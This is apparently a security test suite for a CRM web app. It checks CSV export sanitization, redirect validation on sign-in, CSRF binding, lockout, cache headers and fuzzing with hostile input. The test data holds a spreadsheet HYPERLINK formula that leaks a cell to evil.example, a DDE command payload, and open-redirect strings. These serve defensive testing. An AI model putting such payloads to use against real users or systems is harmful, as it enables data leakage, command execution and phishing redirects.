import t from 'tap';
import { buildTestApp, Client, loginAs } from '../../helpers/app.js';
import { makeCompany, makeContact, makeCustomer, makeCustomerGroup, makeDeal, makeUser, PASSWORD } from '../../helpers/factories.js';
import { setSetting } from '../../../src/features/settings/settings.queries.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tTab', '\rCR'];

t.test('every export neutralizes cells a spreadsheet would run as formulas', async (t) => {
  const { app } = await buildTestApp(t);
  const admin = await makeUser(app, { role: 'admin' });
  const [f0, f1, f2] = FORMULAS;
  const company = await makeCompany(app, admin, { name: f0, city: f1, description: f2 });
  await makeContact(app, admin, { first_name: f0, last_name: f1, position: f2, company_id: company });
  await makeCustomer(app, admin, { name: f0, phone: f1 });
  await makeCustomerGroup(app, admin, { name: f0, description: f2 });
  await makeDeal(app, admin, { title: f0, description: f1 });
  const c = await loginAs(app, admin);
  for (const path of ['/companies', '/contacts', '/customers', '/customer-groups', '/deals']) {
    const csv = (await c.get(`${path}/export.csv`)).body;
    const cells = csv.split(/\r\n/).slice(1).join('\n');
    t.notMatch(cells, /(^|,|")[=+@]/m, `${path}: no cell starts with = + or @`);
    t.match(cells, /'=HYPERLINK/, `${path}: the formula is kept as text`);
  }
  const contacts = (await c.get('/contacts/export.csv')).body;
  t.match(contacts, /'\+cmd/, 'a leading + is neutralized');
  t.match(contacts, /'@SUM/, 'a leading @ is neutralized');
});

t.test('sign-in follows only our own paths; hostile `next` values neither leave the site nor fail', async (t) => {
  const { app } = await buildTestApp(t);
  const user = await makeUser(app);
  const cases: [string, string][] = [
    ['/\t/evil.example', '/'],
    ['/\\evil.example', '/'],
    ['//evil.example', '/'],
    ['/%09/evil.example', '/%09/evil.example'],
    ['https://evil.example/', '/'],
    ['/x\ny', '/'],
    ['/x\ry', '/'],
    ['/x\u0000y', '/'],
    ['/deals?q=été', '/deals?q=%C3%A9t%C3%A9'],
    ['/x€Ā', '/x%E2%82%AC%C4%80'],
    ['/companies/1', '/companies/1'],
  ];
  for (const [next, expected] of cases) {
    const c = new Client(app);
    await c.get('/login');
    const before = (await app.db.selectFrom('sessions').select('id').execute()).length;
    const res = await c.post('/login', { email: user.email, password: PASSWORD, next });
    t.equal(res.statusCode, 303, `${JSON.stringify(next)} signs in`);
    t.equal(res.headers.location, expected, `${JSON.stringify(next)} → ${expected}`);
    t.equal((await app.db.selectFrom('sessions').select('id').execute()).length, before + 1, 'exactly one session row');
  }
  const page = await app.inject({ method: 'GET', url: '/login?next=%2F%09%2Fevil.example' });
  t.equal(page.statusCode, 200);
  t.notMatch(page.body, /evil\.example/, 'the login form does not carry a foreign next');
  const unknown = await app.inject({ method: 'GET', url: '/%09%5Cevil.example' });
  t.ok(unknown.statusCode < 500);
  t.notMatch(String(unknown.headers.location ?? ''), /^\/[\t\\/]/, 'a strange path redirects to our login only');
});

t.test('reps are not offered edit forms they cannot save', async (t) => {
  const { app } = await buildTestApp(t);
  const rep = await makeUser(app);
  const other = await makeUser(app);
  const ids = {
    companies: await makeCompany(app, other, { assigned_to: other.id }),
    contacts: await makeContact(app, other, { assigned_to: other.id }),
    customers: await makeCustomer(app, other, { assigned_to: other.id }),
    deals: await makeDeal(app, other),
  };
  const c = await loginAs(app, rep);
  for (const [path, id] of Object.entries(ids)) {
    t.equal((await c.get(`/${path}/${id}`)).statusCode, 200, `${path}: visible (rep_visibility = all)`);
    t.equal((await c.get(`/${path}/${id}/edit`)).statusCode, 403, `${path}: the edit form is refused like its POST`);
  }
});

t.test('signed-in pages are not stored by the browser; static assets are', async (t) => {
  const { app } = await buildTestApp(t);
  const admin = await makeUser(app, { role: 'admin' });
  const company = await makeCompany(app, admin);
  const c = await loginAs(app, admin);
  for (const url of ['/', '/companies', `/companies/${company}`, '/deals/board', '/search?q=x', '/settings/users', '/profile']) {
    t.equal((await c.get(url)).headers['cache-control'], 'no-store', url);
  }
  t.equal((await c.get('/companies', { 'hx-request': 'true', 'hx-target': 'companies-rows' })).headers['cache-control'], 'no-store', 'fragments too');
  t.not((await c.get('/public/css/app.css')).headers['cache-control'], 'no-store', 'static assets stay cacheable');
});

t.test('the flash cookie is Secure under an https base URL', async (t) => {
  const { app } = await buildTestApp(t, { env: { ORCHARD_BASE_URL: 'https://crm.example.test' } });
  const admin = await makeUser(app, { role: 'admin' });
  const c = await loginAs(app, admin);
  const res = await c.post('/companies', { name: 'Flashy', is_active: '1' });
  const flash = (res.cookies as { name: string; secure?: boolean }[]).find((k) => k.name === 'orchard_flash');
  t.ok(flash?.secure, 'Secure flag set');
});

t.test('hostile values in any form, JSON body or query string never produce a 500', async (t) => {
  const { app } = await buildTestApp(t);
  const admin = await makeUser(app, { role: 'admin' });
  const company = await makeCompany(app, admin, { name: 'Acme' });
  const ids: Record<string, number> = {
    companies: company,
    contacts: await makeContact(app, admin),
    customers: await makeCustomer(app, admin),
    'customer-groups': await makeCustomerGroup(app, admin),
    deals: await makeDeal(app, admin),
  };
  await setSetting(app.db, 'rep_visibility', 'all');
  const c = await loginAs(app, admin);
  const note = await app.db.selectFrom('notes').select('id').executeTakeFirst();
  const stage = (await app.db.selectFrom('deal_stages').select(['id', 'pipeline_id']).executeTakeFirstOrThrow());
  const fill = (url: string) =>
    url
      .replace(/^\/(companies|contacts|customers|customer-groups|deals)\/:id/, (_m, kind: string) => `/${kind}/${ids[kind]}`)
      .replace('/notes/:id', `/notes/${note?.id ?? 1}`)
      .replace(':kind', 'campaigns')
      .replace('/settings/pipelines/:id', `/settings/pipelines/${stage.pipeline_id}`)
      .replace(':stage_id', String(stage.id))
      .replace(':id', '1');
  const fields = ['name', 'title', 'email', 'first_name', 'last_name', 'website', 'value', 'probability', 'expected_close_date', 'pipeline_id', 'stage_id', 'company_id', 'customer_id', 'contact_ids', 'assigned_to', 'industry_id', 'customer_group_id', 'code', 'priority', 'discount_percent', 'is_active', 'version', 'body', 'ids', 'starts_on', 'ends_on', 'budget_cents', 'price_cents', 'password', 'role', 'time_zone', 'color', 'rotting_days', 'lost_reason_id', 'lost_reason', 'next', 'q', 'page', 'sort', 'dir'];
  const hostile = ['\u0000', 'a\nb\r\n', '\u202e\uffff', 'ĀĂ𝔘', '1e309', '-99999999999999999999', '2026-02-30', 'x'.repeat(10_000), '%FF%FE', '{"a":1}'];
  // /events is a stream that never ends by itself: tests/features/tasks/notifications.test.ts drives it over real HTTP.
  const routes = app.routeList.filter((r) => !['/logout', '/login', '/setup', '/events'].includes(r.url) && !r.url.startsWith('/public') && r.url !== '/*');
  let checked = 0;
  for (const route of routes) {
    const url = fill(route.url);
    for (const v of hostile) {
      const res =
        route.method === 'GET'
          ? await c.get(`${url}?${fields.map((k) => `${k}=${encodeURIComponent(v)}`).join('&')}`)
          : await c.post(url, Object.fromEntries(fields.map((k) => [k, [v, v]])));
      checked++;
      if (res.statusCode >= 500) t.fail(`${route.method} ${route.url} with ${JSON.stringify(v.slice(0, 12))} → ${res.statusCode}`);
    }
    if (route.method === 'POST') {
      // Raw bytes that are not UTF-8, as a broken client might send them.
      const raw = Buffer.concat([Buffer.from(`_csrf=${encodeURIComponent(c.csrf)}&name=`), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x80]), Buffer.from('&title=\u0000')]);
      const rawRes = await app.inject({ method: 'POST', url, payload: raw, headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
      checked++;
      if (rawRes.statusCode >= 500) t.fail(`POST ${route.url} with non-UTF-8 bytes → ${rawRes.statusCode}`);
      // JSON bodies with objects where strings belong, and arrays of them.
      for (const payload of [Object.fromEntries(fields.map((k) => [k, { toString: 'x' }])), Object.fromEntries(fields.map((k) => [k, [{ a: 1 }, null]]))]) {
        const res = await app.inject({ method: 'POST', url, payload, headers: { cookie: [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; '), 'x-csrf-token': c.csrf } });
        checked++;
        if (res.statusCode >= 500) t.fail(`POST ${route.url} with a JSON object body → ${res.statusCode}: ${res.body.slice(0, 200)}`);
      }
    }
  }
  // Sign-in with hostile fields, signed out.
  for (const v of hostile) {
    const anon = new Client(app);
    await anon.get('/login');
    const res = await anon.post('/login', { email: v, password: v, next: v });
    checked++;
    if (res.statusCode >= 500) t.fail(`POST /login with ${JSON.stringify(v.slice(0, 12))} → ${res.statusCode}`);
  }
  t.ok(checked > 500, `${checked} hostile requests over ${routes.length} routes, none answered 5xx`);
});

t.test('money is bounded per deal, and list and board totals cannot overflow whatever is stored', async (t) => {
  const { app } = await buildTestApp(t);
  const a = await makeUser(app);
  const b = await makeUser(app);
  const c = await loginAs(app, a);
  const { pipeline, by } = await (await import('../../helpers/factories.js')).stagesOf(app);
  const tooBig = await c.post('/deals', { title: 'Huge', value: '999999999999.99', probability: '100', pipeline_id: pipeline.id, assigned_to: a.id });
  t.equal(tooBig.statusCode, 422, 'an amount above 10 billion is refused at the field');
  t.match(tooBig.body, /too large/);
  t.match(tooBig.body, /value="999999999999.99"/, 'what was typed stays');
  // Rows stored before the bound (or by a future import): two owners, each near the 64-bit limit.
  const now = new Date().toISOString();
  for (const owner of [a, b]) {
    await app.db.insertInto('deals').values({
      title: `Legacy ${owner.id}`, description: null, value_cents: 5e18, expected_close_date: null, probability: 0, pipeline_id: pipeline.id, stage_id: by('Lead').id,
      company_id: null, customer_id: null, assigned_to: owner.id, lead_id: null, actual_close_date: null, lost_reason: null, lost_reason_id: null,
      stage_entered_at: now, last_activity_at: now, created_at: now, updated_at: now,
    }).execute();
  }
  t.equal((await c.get('/deals/board')).statusCode, 200, 'the board still renders');
  t.equal((await c.get('/deals')).statusCode, 200, 'the deal list header still adds up');
});

t.test('a write the database cannot take keeps the typed form, says what happened, and /healthz tells', async (t) => {
  const { app } = await buildTestApp(t);
  const admin = await makeUser(app, { role: 'admin' });
  const company = await makeCompany(app, admin, { name: 'Steady Co' });
  const c = await loginAs(app, admin);
  t.same((await app.inject('/healthz')).json(), { status: 'ok' });

  // A full disk: the file may not grow by a single page.
  const pages = Number(app.sqlite.pragma('page_count', { simple: true }));
  app.sqlite.pragma(`max_page_count = ${pages}`);
  const full = await c.post('/companies', { name: 'Big Co', city: 'Lyon', description: Array.from({ length: 900 }, (_, i) => `word${i}`).join(' '), is_active: '1' });
  t.equal(full.statusCode, 503);
  t.match(full.body, /The disk is full, so this was not saved/);
  t.match(full.body, /value="Lyon"/, 'what was typed stays in the form');
  t.equal((await app.db.selectFrom('companies').select('id').where('name', '=', 'Big Co').execute()).length, 0, 'nothing half-written');
  const health = await app.inject('/healthz');
  t.equal(health.statusCode, 503);
  t.same(health.json(), { status: 'degraded', database: 'full' });
  app.sqlite.pragma('max_page_count = 4294967294');

  // A read-only database.
  app.sqlite.pragma('query_only = 1');
  const ro = await c.post(`/companies/${company}`, { name: 'Renamed Co', city: 'Nantes', is_active: '1', version: '1' });
  t.equal(ro.statusCode, 503);
  t.match(ro.body, /cannot be written to right now/);
  t.match(ro.body, /value="Nantes"/);
  const toggle = await c.post(`/companies/${company}/toggle-active`);
  t.equal(toggle.statusCode, 503, 'an action without a form says it too, not a 500');
  t.equal((await app.inject('/healthz')).json().database, 'read-only');
  app.sqlite.pragma('query_only = 0');
  t.equal((await app.db.selectFrom('companies').select('name').where('id', '=', company).executeTakeFirstOrThrow()).name, 'Steady Co');
});

t.test('CSRF tokens are bound to the session: another user\'s token, or one from before sign-in, is refused', async (t) => {
  const { app } = await buildTestApp(t);
  const admin = await loginAs(app, await makeUser(app, { role: 'admin' }));
  const rep = await loginAs(app, await makeUser(app));
  const forged = new Client(app);
  forged.cookies.set('orchard_sid', admin.cookies.get('orchard_sid')!);
  forged.cookies.set('_csrf', rep.cookies.get('_csrf')!);
  forged.csrf = rep.csrf;
  t.equal((await forged.post('/companies', { name: 'Forged Co', is_active: '1' })).statusCode, 403, 'the admin session with the rep\'s cookie and token');
  const stale = new Client(app);
  await stale.get('/login');
  const preLoginToken = stale.csrf;
  const user = await makeUser(app);
  t.equal((await stale.post('/login', { email: user.email, password: PASSWORD })).statusCode, 303);
  stale.csrf = preLoginToken;
  t.equal((await stale.post('/companies', { name: 'Stale Co', is_active: '1' })).statusCode, 403, 'the token from the sign-in page no longer works');
  await stale.get('/companies');
  t.equal((await stale.post('/companies', { name: 'Fresh Co', is_active: '1' })).statusCode, 303, 'a page loaded after sign-in gives a working token');
  t.same((await app.db.selectFrom('companies').select('name').execute()).map((r) => r.name), ['Fresh Co']);
});

t.test('lockout is no weapon: a browser that signed in before gets through with the right password; others slow down, then wait', async (t) => {
  const { LoginLimiter } = await import('../../../src/features/auth/login-limiter.js');
  const { app } = await buildTestApp(t, { limiter: new LoginLimiter({ windowMs: 60_000, maxPerIp: 6, maxPerAccount: 3, slowdownMs: 100 }) });
  const user = await makeUser(app);
  const own = new Client(app);
  await own.get('/login');
  t.equal((await own.post('/login', { email: user.email, password: PASSWORD })).statusCode, 303);
  t.ok(own.cookies.get('orchard_device'), 'sign-in leaves a device cookie');
  await own.get('/');
  t.equal((await own.post('/logout', {})).statusCode, 303, 'signed out');
  await own.get('/login');

  const attacker = new Client(app);
  await attacker.get('/login');
  const started = Date.now();
  for (let i = 0; i < 3; i++) t.equal((await attacker.post('/login', { email: user.email, password: 'guess-' + i })).statusCode, 401);
  t.ok(Date.now() - started >= 250, 'failures slow down (100 + 200 ms)');
  for (let i = 0; i < 4; i++) await attacker.post('/login', { email: `x${i}@example.test`, password: 'guess' });
  t.equal((await attacker.post('/login', { email: user.email, password: PASSWORD })).statusCode, 429, 'an unknown browser waits, even with the right password');
  const stranger = new Client(app);
  await stranger.get('/login');
  t.equal((await stranger.post('/login', { email: user.email, password: PASSWORD })).statusCode, 429, 'so does a fresh one on the locked IP');
  const mine = await own.post('/login', { email: user.email, password: PASSWORD });
  t.equal(mine.statusCode, 303, 'the user\'s own browser signs in: ' + mine.body.slice(0, 300));
  const forged = new Client(app);
  await forged.get('/login');
  forged.cookies.set('orchard_device', `${user.id}.AAAAAAAAAAAA.${'x'.repeat(43)}`);
  t.equal((await forged.post('/login', { email: user.email, password: PASSWORD })).statusCode, 429, 'a forged device cookie does not help');
});
